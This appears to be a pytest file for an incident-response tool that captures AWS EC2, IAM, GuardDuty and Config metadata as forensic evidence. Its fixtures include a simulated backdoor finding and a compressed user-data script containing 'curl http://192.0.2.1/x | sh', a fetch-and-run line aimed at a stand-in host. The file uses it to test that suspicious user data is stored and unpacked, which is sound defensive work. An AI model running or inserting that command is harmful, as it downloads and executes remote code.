from __future__ import annotations

import base64
import gzip
import json
from types import SimpleNamespace

from irkit import capture
from irkit.capture.asking import Answer, side_by_side
from irkit.capture.metadata import tidy
from irkit.case import Case
from irkit.evidence import verify
from irkit.journal import Kind
from irkit.plan import Report
from irkit.sim.mends import detection


def apply(world: SimpleNamespace, case: Case) -> Report:
    return capture.plan(case, world.instance_id, only=["metadata"]).apply()


def test_every_answer_is_kept_word_for_word_with_its_question(world: SimpleNamespace, case: Case) -> None:
    report = apply(world, case)

    assert report.exit_code == 0, report.steps[0].missing
    raw = case.evidence.items(kind="aws-metadata")
    asked = {(i.notes["service"], i.notes["operation"]) for i in raw}
    assert {
        ("ec2", "describe_instances"), ("ec2", "describe_volumes"), ("ec2", "describe_security_group_rules"),
        ("ec2", "describe_network_interfaces"), ("ec2", "describe_flow_logs"), ("iam", "get_role"),
        ("iam", "get_role_policy"), ("autoscaling", "describe_auto_scaling_instances"),
        ("elbv2", "describe_target_health"), ("ssm", "describe_instance_information"),
    } <= asked  # fmt: skip
    one = next(i for i in raw if i.notes["operation"] == "describe_instances")
    kept = json.loads(case.evidence.read(one))
    assert kept["params"] == {"InstanceIds": [world.instance_id]}
    assert kept["pages"][0]["Reservations"][0]["Instances"][0]["InstanceId"] == world.instance_id
    assert kept["request_ids"]
    assert "ResponseMetadata" not in kept["pages"][0]
    assert verify(case.root).problems == ()


def test_the_tidy_view_holds_what_later_steps_need(world: SimpleNamespace, case: Case) -> None:
    apply(world, case)
    view = json.loads(case.evidence.read(case.evidence.items(kind="instance")[0]))
    assert view["instance"]["id"] == world.instance_id
    assert view["attributes"]["disableApiTermination"] is False
    assert view["attributes"]["instanceInitiatedShutdownBehavior"]
    assert view["target_groups"][0]["state"] == "healthy"
    assert view["scaling"][0]["LifecycleState"] == "InService"
    assert view["role_policies"][0]["document"]["Statement"]
    assert "userData" not in view["attributes"]


def test_what_aws_has_none_of_is_written_down_with_the_reason(world: SimpleNamespace, case: Case) -> None:
    apply(world, case)
    view = json.loads(case.evidence.read(case.evidence.items(kind="instance")[0]))
    told = " ".join(view["absent"])
    assert "guardduty: it has no detector in the region" in told
    assert "config: nothing is recorded in the region" in told


def test_findings_and_histories_are_kept_where_guardduty_and_config_are_on(
    world: SimpleNamespace, case: Case
) -> None:
    where = (world.sim.account, "us-east-1")
    mine = {"Id": "f1", "Type": "Backdoor:EC2/C&CActivity.B", "Severity": 8.0,
            "Resource": {"InstanceDetails": {"InstanceId": world.instance_id}}}  # fmt: skip
    other = mine | {"Id": "f2", "Resource": {"InstanceDetails": {"InstanceId": "i-0123456789abcdef0"}}}
    detector = detection.plant_finding(*where, mine)
    detection.plant_finding(*where, other)
    config, past = world.sim.session().client("config"), {"resourceId": world.instance_id, "version": "1.3"}
    role = f"arn:aws:iam::{world.sim.account}:role/config"
    config.put_configuration_recorder(ConfigurationRecorder={"name": "default", "roleARN": role})
    detection.plant_history(*where, "AWS::EC2::Instance", world.instance_id, [past, past])
    try:
        report = apply(world, case)
    finally:
        world.sim.session().client("guardduty").delete_detector(DetectorId=detector)
        config.delete_configuration_recorder(ConfigurationRecorderName="default")
    assert report.exit_code == 0, report.steps[0].missing
    view = json.loads(case.evidence.read(case.evidence.items(kind="instance")[0]))
    assert view["findings"] == [{"id": "f1", "type": "Backdoor:EC2/C&CActivity.B", "severity": 8.0}]
    assert view["config_history"] == {world.instance_id: 2}
    asked = {
        i.notes["params"].get("resourceType") for i in case.evidence.items() if "config_history" in i.name
    }
    assert asked == {"AWS::EC2::Instance"}, "the others are named as having none"
    assert sum("get_resource_config_history" in a for a in view["absent"]) >= 4


def test_every_version_of_a_policy_is_kept_and_that_of_the_boundary(
    world: SimpleNamespace, case: Case
) -> None:
    iam = world.sim.session().client("iam")
    role = capture.describe(case, world.instance_id).roles[0]
    document = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    policies = [
        iam.create_policy(PolicyName=name, PolicyDocument=json.dumps(document))["Policy"]["Arn"]
        for name in ("attached", "boundary")
    ]
    narrow = document | {"Statement": [{"Effect": "Allow", "Action": "s3:Get*", "Resource": "*"}]}
    iam.create_policy_version(PolicyArn=policies[0], PolicyDocument=json.dumps(narrow), SetAsDefault=True)
    iam.attach_role_policy(RoleName=role, PolicyArn=policies[0])
    iam.put_role_permissions_boundary(RoleName=role, PermissionsBoundary=policies[1])
    try:
        apply(world, case)
    finally:
        iam.detach_role_policy(RoleName=role, PolicyArn=policies[0])
        iam.delete_role_permissions_boundary(RoleName=role)
    view = json.loads(case.evidence.read(case.evidence.items(kind="instance")[0]))
    kept = {(v["policy"], v["version"], v["default"]) for v in view["policy_versions"]}
    assert {(policies[0], "v1", False), (policies[0], "v2", True), (policies[1], "v1", True)} <= kept


def test_user_data_is_kept_decoded(world: SimpleNamespace, case: Case) -> None:
    apply(world, case)
    item = case.evidence.items(kind="user-data")[0]
    assert case.evidence.read(item).startswith(b"#!/bin/bash\n")


def test_compressed_user_data_is_kept_as_it_came_and_unpacked(world: SimpleNamespace, case: Case) -> None:
    script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"
    made = world.sim.session().client("ec2").run_instances(
        ImageId="ami-0123456789abcdef0", MinCount=1, MaxCount=1, UserData=gzip.compress(script)
    )["Instances"][0]["InstanceId"]  # fmt: skip
    capture.plan(case, made, only=["metadata"]).apply()
    kept = {i.name: case.evidence.read(i) for i in case.evidence.items(kind="user-data")}
    assert kept["user-data.unpacked"] == script
    assert kept["user-data"].startswith(b"\x1f\x8b")


def test_a_refused_question_is_named_and_the_others_are_answered(world: SimpleNamespace, case: Case) -> None:
    world.sim.faults.inject("ec2", "DescribeNetworkAcls", "UnauthorizedOperation", status=403, times=9)
    world.sim.faults.inject("iam", "ListAttachedRolePolicies", "AccessDenied", status=403, times=9)
    report = apply(world, case)
    assert report.exit_code == 3
    told = " ".join(report.steps[0].missing)
    assert "describe_network_acls" in told
    assert "list_attached_role_policies" in told
    assert len(report.steps[0].missing) == 2
    assert len(case.evidence.items(kind="aws-metadata")) > 30


def test_throttles_are_waited_out(world: SimpleNamespace, case: Case) -> None:
    world.sim.faults.inject("ec2", "DescribeVolumes", "RequestLimitExceeded", status=503, times=2)
    assert apply(world, case).exit_code == 0


def test_a_kill_before_the_journal_says_done_repeats_nothing(world: SimpleNamespace, case: Case) -> None:
    plan = capture.plan(case, world.instance_id, only=["metadata"])
    plan.apply()
    items = len(case.evidence.items())
    case.journal.append(Kind.INTENDED, step=plan.steps[0].id(case.id), verb="capture.metadata")
    asked = len(world.sim.calls())
    assert plan.apply().exit_code == 0
    assert len(case.evidence.items()) == items
    assert len(world.sim.calls()) == asked


def test_pages_are_joined_and_bytes_survive() -> None:
    answer = Answer(
        service="x", operation="y", params={}, region="us-east-1", asked_at="2026-01-01T00:00:00Z",
        pages=({"Things": [1], "Next": "a"}, {"Things": [2], "Blob": b"\x00\xff"}),
    )  # fmt: skip
    assert answer["Things"] == [1, 2]
    assert answer["Nothing"] is None
    kept = json.loads(answer.to_json())
    assert base64.b64decode(kept["pages"][1]["Blob"]["base64"]) == b"\x00\xff"


def test_work_side_by_side_keeps_its_order() -> None:
    assert side_by_side(lambda n: n * 2, range(20)) == [n * 2 for n in range(20)]
    assert side_by_side(lambda n: n, []) == []


def test_the_view_of_an_instance_without_answers_is_still_a_view(world: SimpleNamespace, case: Case) -> None:
    view = tidy(capture.describe(case, world.instance_id), [])
    assert view["security_groups"] is None
    assert view["target_groups"] == []
